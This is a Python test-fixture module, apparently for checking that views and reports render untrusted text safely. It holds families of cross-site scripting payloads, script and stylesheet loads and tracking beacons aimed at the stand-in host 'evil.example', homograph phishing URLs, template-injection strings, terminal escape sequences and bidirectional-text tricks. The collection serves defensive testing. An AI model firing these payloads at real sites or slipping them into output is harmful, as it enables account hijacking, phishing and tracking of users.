"""Texts that attack whoever shows them, for every view, static form and report: each family is a way in which shown text has become something else.

`pwned(name)` is what a payload does if it runs at all: it leaves its name on the window, where a test looks. What would be fetched is on
`evil.example`, which no test can reach and whose name no request may bear.
"""

from __future__ import annotations

HOST = "evil.example"


def pwned(name: str) -> str:
    """JavaScript that leaves a mark."""
    return f"(window.pwned=(window.pwned||[]).concat('{name}'))"


SCRIPT = (
    f"<script>{pwned('script')}</script>",
    f"</script><script>{pwned('closed-script')}</script>",
    f"<script src=http://{HOST}/x.js></script>",
    f"<script type=module>{pwned('module')}</script>",
    f"<scr<script>ipt>{pwned('nested')}</scr</script>ipt>",
    f"<ScRiPt\x0c>{pwned('case')}</sCrIpT >",
    f"]]>--><script>{pwned('comment')}</script><!--",
    f"\u003cscript\u003e{pwned('escaped')}\u003c/script\u003e",
    f"+ADw-script+AD4-{pwned('utf7')}+ADw-/script+AD4-",
)
HANDLERS = (
    f'<img src=x onerror="{pwned("img")}">',
    f"'\"><details open ontoggle={pwned('toggle')}>",
    f'" autofocus tabindex=1 onfocus="{pwned("focus")}" x="',
    f"<input autofocus onfocus={pwned('input')}>",
    f"<video><source onerror={pwned('video')}></video>",
    f"<audio src=x onerror={pwned('audio')}>",
    f"<body onload={pwned('body')}>",
    f"<marquee onstart={pwned('marquee')}>",
    f"<div style=animation-name:x onanimationstart={pwned('animation')}>",
    f"` onmouseover=`{pwned('backtick')}",
)
VECTOR = (
    f"<svg onload={pwned('svg')}><animate onbegin={pwned('animate')}></svg>",
    f"<svg><script>{pwned('svg-script')}</script></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={pwned("use")}>#x"></svg>',
    f"<svg><foreignObject><img src=x onerror={pwned('foreign')}></foreignObject></svg>",
    f'<math><mtext><style><img src=x onerror="{pwned("math")}"></style></mtext></math>',
    f'<svg><a xlink:href="javascript:{pwned("xlink")}"><text y=20>click</text></a></svg>',
)
LINKS = (
    f'<a href="javascript:{pwned("link")}">click</a>',
    f"javascript:{pwned('url')}",
    f"jAvAsCrIpT:{pwned('url-case')}",
    f"java\tscript:{pwned('url-tab')}",
    f"data:text/html,<script>parent.{pwned('data')}</script>",
    f"vbscript:{pwned('vbscript')}",
    f"[click](javascript:{pwned('markdown-link')})",
    f"<javascript:{pwned('autolink')}>",
    f"[x]: javascript:{pwned('reference')}\n[x]",
    f"https://{HOST}/@bank.example",
    "https://\u0440\u0430ypal.example/login",
    "https://xn--pypal-4ve.example",
)
FRAMES = (
    f'<iframe srcdoc="<script>parent.{pwned("iframe")}</script>"></iframe>',
    f"<iframe src=javascript:{pwned('frame')}></iframe>",
    f'<object data="data:text/html,<script>{pwned("object")}</script>"></object>',
    f"<embed src=javascript:{pwned('embed')}>",
    f"<base href=http://{HOST}/>",
    f'<meta http-equiv=refresh content="0;url=http://{HOST}/">',
    f'<form action=http://{HOST}/ id=f></form><button form=f formaction="javascript:{pwned("form")}">go</button>',
    "</div></td></table></section></main></body></html>",
    "<plaintext>",
    "<textarea>",
    "<!--",
)
STYLE = (
    f"<style>@import url(http://{HOST}/x.css); * {{ display: none }}</style>",
    f"</style><style>body {{ background: url(http://{HOST}/bg) }}",
    f'" style="position:fixed;inset:0;background:url(http://{HOST}/inset)',
    f"<link rel=stylesheet href=http://{HOST}/l.css>",
    f"expression({pwned('expression')})",
)
FETCHED = (
    f"<img src=http://{HOST}/beacon.png>",
    f"![beacon](http://{HOST}/beacon.png) <b>bold</b>",
    f"<img srcset=//{HOST}/set.png>",
    f"<video poster=http://{HOST}/poster.png>",
    f"<link rel=prefetch href=http://{HOST}/p>",
    f"<object data=http://{HOST}/o></object>",
)
TEMPLATES = (
    f"${{{pwned('template')}}}{{{{constructor.constructor('{pwned('angular')}')()}}}}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}",
    "__proto__",
    "constructor",
    "%s%n{0}{self.__init__.__globals__}",
)
MATHEMATICS = (
    f"$\\href{{javascript:{pwned('mathjax')}}}{{x}}$ costs $5 or $6",
    f"\\(\\style{{background:url(http://{HOST}/math)}}{{x}}\\)",
    "$$\\def\\x{\\x\\x}\\x$$",
    "\\begin{equation}x\\end{equation}",
)
TERMINAL = (
    f"\x1b[31mred\x1b]8;;http://{HOST}\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x1b]0;title\x07",
    "\x9b31mC1\x9d0;title\x9c",
    "back\b\b\b\bspace\rreturn",
)
LETTERS = (
    "invoice\u202egnp.exe",
    "\u2066hidden\u2069 \u2067order\u2069",
    "zero\u200bwidth\u2060\U000e0041\U000e0042",
    "\u0000\u0008\u2028null\u2029",
    "a" + "\u0301" * 200,
    "\ufffd\ufffe\uffff noncharacters",
    "\u202ereversed\u202c and \ufdfd" * 3,
)

FAMILIES = {
    "script": SCRIPT, "handlers": HANDLERS, "vector": VECTOR, "links": LINKS, "frames": FRAMES, "style": STYLE, "fetched": FETCHED,
    "templates": TEMPLATES, "mathematics": MATHEMATICS, "terminal": TERMINAL, "letters": LETTERS,
}  # fmt: skip
PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family)
LONG_LINE = "<b>" + "A" * 10_000_000
